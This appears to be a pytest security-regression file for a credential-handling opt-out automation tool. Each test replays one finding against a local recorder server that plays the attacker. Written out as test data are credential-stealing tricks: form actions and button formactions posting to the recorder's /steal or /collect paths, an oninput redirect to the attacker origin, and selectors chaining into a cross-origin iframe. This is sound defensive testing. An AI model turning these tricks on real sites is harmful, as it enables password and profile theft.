"""Trust boundaries, tried as an attacker would: a recipe is untrusted input (it may come from a
stranger), so it can never move a stored password, a session or a profile to an origin the person
did not approve. Each test reproduces one finding against local servers, one of them an
attacker's server that records everything it receives."""

from __future__ import annotations

import json

import pytest
from flask import Flask

from optout.practice.server import Served
from optout.store import credentials
from optout.store.credentials import Account
from tests.attacker import Recorder, hostile_recipe, serving
from tests.conftest import invoke, results_of

PASSWORD = "pw-Tr0ub4dor&3-staple"

pytestmark = pytest.mark.usefixtures("linkedin_toggle_only")


# --- credentials are bound to the shipped recipe's origins -----------------------------------------


def test_bulk_password_commands_never_follow_an_override_origin(tmp_path, recorder):
    """Finding 1: an override that changes only `origin:` got a roster's passwords."""
    folder = hostile_recipe(tmp_path / "override", recorder.origin)
    roster = tmp_path / "members.csv"
    roster.write_text("platform,account,username,password_command\n"
                      f"linkedin,ada,ada@example.com,echo {PASSWORD}\n")
    result = invoke("--recipes", str(folder), "bulk", str(roster), "--json")
    assert result.exit_code == 2
    assert f"--trust-origin {recorder.origin}" in result.stderr
    assert "Traceback" not in result.output
    assert recorder.received == []


def test_login_never_binds_credentials_to_an_override_origin(tmp_path, recorder):
    """Finding 2: `login --verify` with an override installed typed the password there at once;
    without --verify the next run did."""
    folder = hostile_recipe(tmp_path / "override", recorder.origin)
    for verify in ("--verify", None):
        result = invoke("--recipes", str(folder), "login", "linkedin", "--username",
                        "ada@example.com", "--password-stdin", *filter(None, [verify]),
                        input=f"{PASSWORD}\n")
        assert result.exit_code == 2, result.output
        assert "shipped with optout does not use" in result.stderr
        assert f"--trust-origin {recorder.origin}" in result.stderr
    assert credentials.accounts("linkedin") == []
    assert recorder.received == []


def test_an_override_adding_a_sign_in_origin_is_refused_too(tmp_path, recorder):
    """allowed_origins and sign_in.origin are origins credentials go to, like `origin`."""
    folder = hostile_recipe(tmp_path / "override", "https://www.linkedin.com",
                            **{"allowed_origins: []": f"allowed_origins: [{recorder.origin}]",
                               "  path: /login\n": f"  origin: {recorder.origin}\n  path: /login\n"})
    result = invoke("--recipes", str(folder), "login", "linkedin", "--username", "ada@example.com",
                    "--password-stdin", input=f"{PASSWORD}\n")
    assert result.exit_code == 2 and recorder.origin in result.stderr
    assert credentials.accounts("linkedin") == []


def test_an_origin_approved_by_name_is_bound_and_shown(tmp_path):
    folder = hostile_recipe(tmp_path / "override", "https://mirror.example.org")
    result = invoke("--recipes", str(folder), "login", "linkedin", "--username", "ada@example.com",
                    "--password-stdin", "--trust-origin", "https://mirror.example.org",
                    input=f"{PASSWORD}\n")
    assert result.exit_code == 0, result.output
    assert "go only to https://mirror.example.org" in result.stdout
    listed = json.loads(invoke("--recipes", str(folder), "list", "--json").stdout)
    [linkedin] = [p for p in listed["platforms"] if p["platform"] == "linkedin"]
    assert linkedin["credentials"] == [{"account": "default",
                                        "origins": ["https://mirror.example.org"],
                                        "trusted_by_flag": ["https://mirror.example.org"]}]
    table = invoke("--recipes", str(folder), "list").stdout
    assert "linkedin/default" in table and "trusted with --trust-origin" in table


def test_list_shows_where_each_account_s_credentials_go(practice):
    assert invoke("login", "linkedin", "--username", "ada@example.com", "--password-stdin",
                  "--origin", practice.origin, input=f"{PASSWORD}\n").exit_code == 0
    assert invoke("login", "linkedin", "--account", "work", "--username", "ada@work.example",
                  "--password-stdin", input=f"{PASSWORD}\n").exit_code == 0
    listed = json.loads(invoke("list", "--json").stdout)
    [linkedin] = [p for p in listed["platforms"] if p["platform"] == "linkedin"]
    assert {c["account"]: c["origins"] for c in linkedin["credentials"]} == {
        "default": [practice.origin], "work": ["https://www.linkedin.com"]}


def test_a_form_sends_nothing_to_an_origin_the_account_is_not_bound_to(tmp_path, recorder):
    """Finding 7: an override form sent the stored username and the profile to any origin the
    recipe listed, though the account was bound to the platform's origin only."""
    app = Flask("platform")
    app.add_url_rule("/object", "form", lambda: (
        f'<form method="post" action="{recorder.origin}/collect"><label for="n">Name</label>'
        '<input id="n" name="n"><label for="e">Email</label><input id="e" name="e">'
        '<button>Submit</button></form>'))
    with Served(app) as platform:
        form = ("  - id: objection\n    title: Objection\n    type: form\n    path: /object\n"
                "    fields:\n      - {target: {label: Name}, from: name}\n"
                "      - {target: {label: Email}, from: username}\n"
                "    submit: {role: button, name: Submit}\n"
                "    confirmation: {text: Thanks}\n    source: https://example.org\n"
                "    live_verified: null\n")
        folder = hostile_recipe(
            tmp_path / "override", platform.origin, extra=form,
            **{"allowed_origins: []": f"allowed_origins: [{recorder.origin}]"})
        credentials.store(Account("linkedin", "default", "ada@example.com", (platform.origin,)),
                          PASSWORD)
        assert invoke("profile", "--name", "Ada Lovelace", "--email", "ada@example.com",
                      "--country", "United Kingdom").exit_code == 0
        result = invoke("--recipes", str(folder), "run", "linkedin", "--setting", "objection",
                        "--json")
    assert result.exit_code == 1, result.output
    [row] = results_of(result)
    assert row["status"] == "failed" and "nothing was sent" in row["message"]
    assert not recorder.saw("Lovelace") and not recorder.saw("ada%40example.com")
    assert recorder.received == []



# --- typing only into the right element ------------------------------------------------------------

USERNAME = '<label for="u">Email or phone</label><input id="u" name="u">'
PASSWORD_BOX = '<label for="p">Password</label><input id="p" name="p" type="password">'


def run_hostile(tmp_path, platform, **replace: str):
    """A run of the platform's account, bound to the platform's origin, with an override recipe."""
    folder = hostile_recipe(tmp_path / "override", platform.origin, **replace)
    credentials.store(Account("linkedin", "default", "ada@example.com", (platform.origin,)),
                      PASSWORD)
    return invoke("--recipes", str(folder), "run", "linkedin", "--json")


def test_a_css_target_cannot_chain_into_another_origin_s_frame(tmp_path, recorder):
    """Finding 3: Playwright's selector syntax typed the password into a cross-origin iframe."""
    page = f'<form method="post">{USERNAME}</form><iframe src="{recorder.origin}/frame"></iframe>'
    frame = "iframe >> internal:control=enter-frame >> "
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform, **{
            "password: {label: Password, exact: true}": f'password: {{css: "{frame}#p"}}',
            "submit: {role: button, name: Sign in, exact: true}": f'submit: {{css: "{frame}button"}}'})
    assert result.exit_code == 2
    assert "is not plain CSS" in result.stderr and "Traceback" not in result.output
    assert not recorder.saw(PASSWORD)


def test_a_second_button_posting_elsewhere_never_gets_the_password(tmp_path, recorder):
    """Finding 4: the form's action was checked, not the clicked button's formaction."""
    page = (f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}'
            f'<button formaction="{recorder.origin}/steal">Sign in</button></form>')
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform)
    [row] = results_of(result)
    assert row["status"] == "failed" and recorder.origin.split("//")[1] in row["message"]
    assert "nothing was submitted" in row["message"]
    assert not recorder.saw(PASSWORD) and not platform.saw(PASSWORD)


def test_a_navigation_raced_by_the_typing_gets_nothing(tmp_path, recorder):
    """Finding 5: the username box's input event sent the page to another origin, and the password
    was typed into the new page."""
    page = (f'<form method="post"><label for="u">Email or phone</label>'
            f'<input id="u" name="u" oninput="location = \'{recorder.origin}/login\'">'
            f'{PASSWORD_BOX}<button>Sign in</button></form>')
    for _ in range(3):
        recorder.received.clear()
        with serving(Recorder(page, platform=True)) as platform:
            result = run_hostile(tmp_path, platform)
        [row] = results_of(result)
        assert row["status"] == "failed", row
        assert not recorder.saw(PASSWORD)
        assert {r["method"] for r in recorder.received} <= {"GET"}


def test_the_password_goes_only_into_a_password_box(tmp_path):
    """Finding 6: an override pointed `password` at a public comment box on the bound origin, and
    the password was published there."""
    page = (f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}<button>Sign in</button>'
            '</form><form method="post" action="/comments"><label for="c">Comment</label>'
            '<textarea id="c" name="c"></textarea><button>Post comment</button></form>')
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform, **{
            "password: {label: Password, exact: true}": "password: {label: Comment}",
            "submit: {role: button, name: Sign in, exact: true}":
                "submit: {role: button, name: Post comment}"})
    [row] = results_of(result)
    assert row["status"] == "failed" and "not a password box" in row["message"]
    assert not platform.saw(PASSWORD)


def test_a_submit_button_of_another_form_never_sends_the_password(tmp_path):
    """The password typed into the sign-in form, submitted by another form's button."""
    page = (f'<form method="post" action="/login">{USERNAME}{PASSWORD_BOX}</form>'
            '<form method="post" action="/comments"><input name="c" type="hidden">'
            '<button>Sign in</button></form>')
    with serving(Recorder(page, platform=True)) as platform:
        result = run_hostile(tmp_path, platform)
    [row] = results_of(result)
    assert row["status"] == "failed" and "not in the form" in row["message"]
    assert [r for r in platform.received if r["method"] == "POST"] == []
